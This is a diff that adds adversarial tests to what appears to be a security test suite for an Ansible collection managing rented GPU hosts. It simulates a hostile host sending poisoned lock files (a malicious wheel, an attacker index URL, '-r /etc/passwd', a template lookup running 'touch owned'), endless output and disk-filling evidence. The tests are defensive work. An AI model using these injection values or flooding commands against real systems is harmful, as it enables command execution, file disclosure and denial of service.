@@ -183,3 +183,64 @@ def host_reads_what_it_is_sent(stage: Stage) -> None:
     played = stage.play(plays(*tasks), inferops_server_api_key=SECRETS["server key"])
     stage.tried(played.status == 0 and stage.host.times_asked >= len(HOST_MODULES))
     stage.harmed(SECRETS["server key"] in stage.host.seen, "a host saw a key for nothing")
+
+
+HASH = "--hash=sha256:" + "0" * 64
+LOCK_LINES = {
+    "a-file": f"evil @ file:///tmp/evil.whl {HASH}",
+    "an-index": f"--index-url http://203.0.113.9/simple\nevil==1.0 {HASH}",
+    "another-list": "-r /etc/passwd",
+    "an-editable-folder": "-e /tmp/evil",
+    "no-hash": "evil==1.0",
+    "a-template": "{{ lookup('ansible.builtin.pipe', 'touch owned') }}",
+}
+
+
+@each("host-returns-a-lock-with", LOCK_LINES)
+def returns_a_lock(stage: Stage, line: str) -> None:
+    """It would be given to the next host."""
+    text = f"{line}\nwanted==1.0 {HASH}\n"
+    stage.host.answers({"changed": True, "lock": text, "packages": {"wanted": "1.0"}})
+    kept = stage.work / "lock.txt"
+    resolve = {"inferops.gpu.stack_lock": {"requirements": ["wanted==1.0"]}, "register": "told"}
+    keep = {"inferops.gpu.controller_file": {"path": str(kept), "content": "{{ told.lock }}"}}
+    played = stage.play(plays(resolve, keep))
+    stage.tried(stage.host.times_asked and "lock" in played.text)
+    stage.harmed(kept.exists(), "what the host calls its lock was kept")
+
+
+@attack
+def host_answers_without_end(stage: Stage) -> None:
+    # Bounded, lest it fills the disk of who tries it.
+    stage.host.runs("head -c 3000000000 /dev/zero | tr '\\0' x")
+    played = stage.play(plays({**LOOK, "ignore_errors": True}, SHOW))
+    stage.tried(stage.host.times_asked and SEEN[:16] in played.text)
+
+
+@attack
+def host_answers_with_evidence_without_end(stage: Stage) -> None:
+    parts = "".join(f'"{number}.log": "{"x" * 2**20}", ' for number in range(60))
+    answer = stage.folder / "answer"
+    answer.write_text(
+        f'{{"parts": {{{parts}"state.json": "{{}}"}}, "server": {json.dumps(RUNNING)}}}'
+    )
+    stage.host.runs(f"cat {answer}")
+    dest = stage.work / "evidence"
+    collects = {"inferops.gpu.evidence": {"dest": str(dest)}, "ignore_errors": True}
+    stage.play(plays(collects, SHOW))
+    stage.tried(stage.host.times_asked)
+    mebibytes = sum(file.stat().st_size for file in dest.rglob("*") if file.is_file()) >> 20
+    stage.harmed(mebibytes > 50, f"the host filled {mebibytes} MiB of the controller's disk")
+
+
+@attack
+def host_says_what_it_costs(stage: Stage) -> None:
+    """A bill of a millionth that is shown beside each task."""
+    price = {"id": "7", "price_usd_per_hour": 1e-6, "started_at": 1.0, "mark": {"created_at": 1.0}}
+    stage.host.answers({"changed": False, "rental": {**price, "gpu_name": "free"}})
+    waits = {"inferops.gpu.gpu_info": {}}
+    sleeps = {"ansible.builtin.wait_for": {"timeout": 12}, "delegate_to": "localhost"}
+    shown = {"ANSIBLE_CALLBACKS_ENABLED": "inferops.gpu.progress"}
+    played = stage.play(plays(waits, sleeps), environment=shown)
+    stage.tried("wait_for, " in played.text)
+    stage.harmed("so far" in played.text, "the host's own price was shown")
